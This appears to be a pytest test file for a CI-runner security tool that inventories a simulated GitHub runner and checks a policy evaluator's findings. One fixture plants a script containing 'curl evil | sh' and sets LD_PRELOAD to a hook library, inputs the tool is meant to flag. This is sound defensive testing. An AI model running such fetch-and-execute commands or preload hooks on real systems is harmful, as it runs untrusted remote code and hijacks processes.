"""evaluate() over a bag the real catalogers took of a runner-like tree (attest's own shapes)."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pytest

from envsecops.bag.inventory import context_from_environment, take_inventory
from envsecops.model.bag import Bag, ComponentKind
from envsecops.policy.evaluate import evaluate
from envsecops.policy.model import EnvPolicy, PackageRule, PackagesPolicy, SbomPolicy
from tests.unit.policy.evaluate_support import allowing, codes

SHA = "8f4b7f84864484a7bf31766abe9204da3cbe65b3"
WORK = "/home/runner/work"
NODE = "name: checkout\nruns:\n  using: node20\n  main: dist/index.js\n"
COMPOSITE = "runs:\n  using: composite\n  steps:\n    - uses: actions/setup-node@v4\n"
DPKG = "Package: git\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1:2.43.0-1\n"
ENVIRON = {
    "PATH": "/usr/bin:/opt/tools",
    "HOME": "/home/runner",
    "RUNNER_WORKSPACE": f"{WORK}/repo",
    "GITHUB_WORKSPACE": f"{WORK}/repo/repo",
    "RUNNER_TOOL_CACHE": "/opt/hostedtoolcache",
    "RUNNER_ENVIRONMENT": "github-hosted",
    "GITHUB_RUN_ID": "42",
}


def _write(root: Path, runner_path: str, text: str, mode: int = 0o644) -> None:
    path = root / runner_path.lstrip("/")
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    path.chmod(mode)


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A runner: binaries (one named `[`), dpkg, a tool-cache tree, two downloaded actions."""
    root = tmp_path / "root"
    _write(root, "/etc/os-release", "ID=ubuntu\nVERSION_ID=24.04\n")
    _write(root, "/var/lib/dpkg/status", DPKG)
    _write(root, "/usr/bin/git", "\x7fELF git", 0o755)
    _write(root, "/usr/bin/[", "\x7fELF test", 0o755)
    _write(root, "/opt/tools/helper", "#!/bin/sh\n", 0o755)
    _write(root, "/opt/hostedtoolcache/Python/3.12.7/x64/bin/python3", "py", 0o755)
    _write(root, "/opt/hostedtoolcache/Python/3.12.7/x64.complete", "")
    actions = f"{WORK}/_actions"
    _write(root, f"{actions}/actions/checkout/{SHA}/action.yml", NODE)
    _write(root, f"{actions}/actions/checkout/{SHA}.completed", "done")
    _write(root, f"{actions}/acme/wrapper/v1/action.yml", COMPOSITE)
    _write(root, f"{actions}/acme/wrapper/v1.completed", "done")
    return root


def _inventory(root: Path, **extra: str) -> Bag:
    context = context_from_environment({**ENVIRON, **extra}, root=root)
    return take_inventory(context)


def test_a_real_bag_is_allowed_by_a_policy_drafted_from_it_except_what_no_entry_can_allow(
    root: Path,
) -> None:
    bag = _inventory(root)
    kinds = {c.kind for c in bag.components}
    assert {ComponentKind.BINARY, ComponentKind.TOOLCHAIN, ComponentKind.ACTION} <= kinds
    reasons = evaluate(allowing(bag), bag)
    assert codes(reasons) == [
        ("action.pin-findings", "action acme/wrapper@v1"),
        ("action.unpinned", "action acme/wrapper@v1"),
    ]


def test_a_step_that_adds_a_risky_variable_and_a_binary_is_denied(root: Path) -> None:
    policy = allowing(_inventory(root))
    _write(root, "/opt/tools/planted", "#!/bin/sh\ncurl evil | sh\n", 0o755)
    bag = _inventory(root, LD_PRELOAD="/home/runner/hook.so")
    assert {
        ("binary.unlisted", "binary /opt/tools/planted"),
        ("env.forbidden", "env LD_PRELOAD"),
    } <= set(codes(evaluate(policy, bag)))


def test_a_rebuilt_binary_and_tool_tree_are_digest_reasons(root: Path) -> None:
    policy = allowing(_inventory(root))
    _write(root, "/usr/bin/git", "\x7fELF git patched", 0o755)
    _write(root, "/opt/hostedtoolcache/Python/3.12.7/x64/bin/python3", "patched", 0o755)
    found = set(codes(evaluate(policy, _inventory(root))))
    assert ("binary.digest", "binary /usr/bin/git") in found
    assert ("toolchain.digest", "toolchain /opt/hostedtoolcache/Python/3.12.7/x64") in found


def test_the_debian_package_and_gates_on_real_purls(root: Path) -> None:
    bag = _inventory(root)
    git = next(c for c in bag.components if c.kind is ComponentKind.PACKAGE)
    assert git.version == "1:2.43.0-1"
    ranged = PackagesPolicy(allow=(PackageRule("pkg:deb/ubuntu/git", ">=2", line=9),))
    reasons = evaluate(dataclasses.replace(allowing(bag), packages=ranged), bag)
    assert ("package.version", f"package {git.purl}") in codes(reasons)
    gate = SbomPolicy(deny=(PackageRule("pkg:github/acme/*", line=9),))
    gated = evaluate(allowing(bag, sbom=gate, env=EnvPolicy()), bag)
    assert ("sbom.denied", "action acme/wrapper@v1") in codes(gated)
